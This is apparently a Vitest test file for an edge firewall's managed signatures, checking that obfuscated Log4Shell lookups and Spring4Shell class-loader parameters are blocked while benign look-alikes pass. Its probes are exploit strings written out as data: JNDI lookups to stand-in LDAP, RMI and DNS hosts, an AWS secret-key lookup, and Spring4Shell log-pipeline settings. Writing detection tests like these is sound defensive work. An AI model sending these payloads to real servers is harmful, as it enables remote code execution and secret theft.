import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compileExpression, engineScheme } from '../src/engine/expressions.ts';
import { RequestView } from '../src/engine/request.ts';
import type { Zone } from '../src/index.ts';
import { SIGNATURES, signatureId } from '../src/managed/edge-signatures.ts';
import { SIGNATURE_ATTACKS } from './fidelity/requests.ts';
import { deployEdgeRuleset, type ProxyFixture, startProxyFixture } from './proxy-fixture.ts';

// Issue 18, point 4: attacks the CRS 3.3.4 lets through — obfuscated Log4Shell lookups and Spring4Shell's
// class-loader parameters — and benign requests that look like them.

interface Probe {
  path: string;
  headers?: [string, string][];
  body?: string;
}

const scheme = engineScheme();

/** The slugs of the managed signatures that match the request. */
function matching(probe: Probe): string[] {
  const view = new RequestView(
    {
      method: probe.body === undefined ? 'GET' : 'POST',
      url: probe.path,
      rawUrl: probe.path,
      httpVersion: '1.1',
      rawHeaders: ['host', 'shop.example', ...(probe.headers ?? []).flat()],
      ip: '192.0.2.10',
      host: 'shop.example',
      scheme: 'https',
      port: 443,
      ...(probe.body === undefined ? {} : { body: Buffer.from(probe.body) }),
      bodyTruncated: false,
      rayId: '8f1c2d3e4a5b6c7d',
      timestamp: Date.UTC(2026, 0, 1),
      zone: { name: 'shop.example', plan: 'pro' },
    },
    scheme,
  );
  return SIGNATURES.filter((s) => compileExpression(s.expression).filter.execute(view.rules)).map(
    (s) => s.slug,
  );
}

const form: [string, string] = ['content-type', 'application/x-www-form-urlencoded'];

const log4shell: Record<string, Probe> = {
  'lower lookup in a header': {
    path: '/',
    headers: [['x-api-version', `\${\${lower:j}ndi:ldap://e.example/a}`]],
  },
  'default-value letters in the user agent': {
    path: '/',
    headers: [['user-agent', `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://e.example/a}`]],
  },
  'a lookup inside the name': { path: '/', headers: [['referer', `\${j\${::-n}di:dns://e.example/a}`]] },
  'env defaults': {
    path: '/',
    headers: [['x-forwarded-for', `\${\${env:NOPE:-j}ndi\${env:NOPE:-:}ldap://e.example/a}`]],
  },
  'an unknown key with a default': {
    path: '/',
    headers: [['x-request-id', `\${\${abc:-J}NDI:ldap://e/a}`]],
  },
  'k8s lookup in the name': {
    path: '/',
    headers: [['accept-language', `\${j\${k8s:k5:-ND}i:ldap://e/a}`]],
  },
  'upper with a dotless i': { path: '/', headers: [['cookie', `s=\${jnd\${upper:ı}:ldap://e/a}`]] },
  'encoded in the query': { path: '/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%2Fa%7D' },
  'in a form body': {
    path: '/login',
    headers: [form],
    body: 'user=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%7D',
  },
  'environment exfiltration': { path: '/', headers: [['x-client', `\${env:AWS_SECRET_ACCESS_KEY}`]] },
};

const spring4shell: Record<string, Probe> = {
  'the published exploit query': {
    path: '/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di',
  },
  'capitalised Class': { path: '/app?Class.module.classLoader.URLs%5B0%5D=0' },
  'percent-encoded dots': { path: '/app?class%2Emodule%2EclassLoader.DefaultAssertionStatus=nonsense' },
  'a form body': {
    path: '/app',
    headers: [form],
    body: 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
  },
  'an encoded form body': {
    path: '/app',
    headers: [form],
    body: 'class%2Emodule%2EclassLoader%2Eresources=1',
  },
  'a multipart field': {
    path: '/upload',
    headers: [['content-type', 'multipart/form-data; boundary=b']],
    body: '--b\r\nContent-Disposition: form-data; name="class.module.classLoader.resources.context.parent.pipeline.first.prefix"\r\n\r\nshell\r\n--b--\r\n',
  },
  'the older class.classLoader path (CVE-2010-1622)': {
    path: '/app?class.classLoader.URLs%5B0%5D=jar:http://e/x!/',
  },
};

const benign: Record<string, Probe> = {
  'a shell variable in a header': { path: '/', headers: [['x-note', `echo \${HOME}`]] },
  'a shell default value': { path: '/', headers: [['x-note', `\${VAR:-default}`]] },
  'template placeholders': {
    path: '/',
    headers: [['x-template', `Hello \${user.name}, you owe \${price}`]],
  },
  'the word jndi in a path and query': { path: '/docs/jndi-tutorial?q=jndi+lookup+example' },
  'a JSON body with a placeholder': {
    path: '/api/mail',
    headers: [['content-type', 'application/json']],
    body: `{"subject":"Hi \${first_name}"}`,
  },
  'class and classLoader as separate parameters': { path: '/app?class=module&classLoader=x' },
  'a search about class loaders': { path: '/search?q=java+class+module+classloader+tutorial' },
  'a CSS class list in a form': {
    path: '/cms',
    headers: [form],
    body: 'class=module%20hero&title=Class.Module',
  },
  'a dotted parameter that is not the class': { path: '/app?user.module.classLoaderName=x' },
};

describe('managed signatures the CRS misses', () => {
  it.each(Object.entries(log4shell))('an obfuscated Log4Shell lookup is caught: %s', (_name, probe) => {
    const hits = matching(probe);
    expect(hits.some((h) => h.startsWith('log4j-'))).toBe(true);
  });

  it.each(Object.entries(spring4shell))('Spring4Shell is caught: %s', (_name, probe) => {
    expect(matching(probe)).toContain('spring4shell');
  });

  it.each(Object.entries(benign))('a benign look-alike passes: %s', (_name, probe) => {
    expect(matching(probe)).toEqual([]);
  });

  it.each(SIGNATURE_ATTACKS.map((p) => [p.name, p] as const))(
    'the fidelity run aims an attack at %s that it catches',
    (_name, p) => {
      const probe: Probe = {
        path: p.url,
        headers: p.headers,
        ...(p.body ? { body: p.body.toString() } : {}),
      };
      expect(matching(probe)).toContain(p.name);
    },
  );

  it('the fidelity run aims an attack at every signature', () => {
    expect(new Set(SIGNATURE_ATTACKS.map((p) => p.name))).toEqual(new Set(SIGNATURES.map((s) => s.slug)));
  });

  it('the Log4j rules carry the public ids and the categories the real ruleset documents', () => {
    const bySlug = new Map(SIGNATURES.map((s) => [s.slug, s]));
    expect(signatureId(bySlug.get('log4j-headers')!)).toBe('6b1cc72dff9746469d4695a474430f12');
    expect(signatureId(bySlug.get('log4j-body')!)).toBe('0c054d4e4dd5455c9ff8f01efe5abb10');
    expect(signatureId(bySlug.get('log4j-uri')!)).toBe('5f6744fa026a4638bda5b3d7d5e015dd');
    expect(bySlug.get('log4j-headers')!.legacyId).toBe('100514');
    expect(bySlug.get('log4j-obfuscated')!.categories).toEqual(
      expect.arrayContaining(['log4j', 'cve-2021-44228']),
    );
    expect(bySlug.get('spring4shell')!.categories).toEqual(
      expect.arrayContaining(['spring', 'cve-2022-22965']),
    );
  });
});

describe('through the proxy', () => {
  let f: ProxyFixture;
  let zone: Zone;
  beforeAll(async () => {
    f = await startProxyFixture();
    zone = await f.zone('signatures.example.com', 'pro', 'complete');
    await deployEdgeRuleset(f, zone.id);
  }, 60_000);
  afterAll(() => f?.close());

  it('blocks an obfuscated lookup in a header and Spring4Shell, names the rule in the event, and passes the look-alikes', async () => {
    const obfuscated = await f.send(zone.name, '/', {
      headers: { 'x-api-version': `\${\${lower:j}ndi:ldap://e.example/a}` },
    });
    expect(obfuscated.status).toBe(403);
    const spring = await f.send(
      zone.name,
      '/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    );
    expect(spring.status).toBe(403);
    const lookalike = await f.send(zone.name, '/search?q=java+class+module+classloader', {
      headers: { 'x-template': `Hello \${user.name}` },
    });
    expect(lookalike.status).toBe(200);

    const events = await f.events(zone.id, '?action=block');
    const ids = events.map((e) => e.rule_id);
    const id = (slug: string) => signatureId(SIGNATURES.find((s) => s.slug === slug)!);
    expect(ids).toEqual(expect.arrayContaining([id('log4j-obfuscated'), id('spring4shell')]));
  });
});
